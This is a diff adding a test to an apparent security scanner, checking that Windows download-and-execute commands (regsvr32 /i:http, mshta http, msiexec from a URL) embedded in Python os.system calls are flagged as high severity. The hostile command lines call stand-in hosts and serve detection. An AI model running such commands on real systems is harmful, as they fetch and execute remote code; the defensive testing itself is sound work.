@@ -602,3 +602,22 @@ test('collectors, tunnels, IP loggers and paste hosts beyond the best known are 
     'c2-example.onion': 'anonymous-network',
   });
 });
+
+test('Windows programs that run what they fetch (regsvr32 /i:http, mshta http, msiexec /i http) are download-execute', () => {
+  for (const command of [
+    'regsvr32 /s /n /u /i:http://192.0.2.9/x.sct scrobj.dll',
+    'mshta http://192.0.2.9/x.hta',
+    'msiexec /q /i https://files.example/app.msi',
+  ]) {
+    const found = ruleOf(findings(`import os\ndef go():\n    os.system("${command}")\n`), 'download-execute');
+    assert.equal(found?.severity, 'high', command);
+  }
+  // a local installer is not fetched
+  assert.equal(
+    ruleOf(
+      findings('import os\ndef go():\n    os.system("msiexec /q /i C:\\\\setup\\\\app.msi")\n'),
+      'download-execute',
+    ),
+    undefined,
+  );
+});
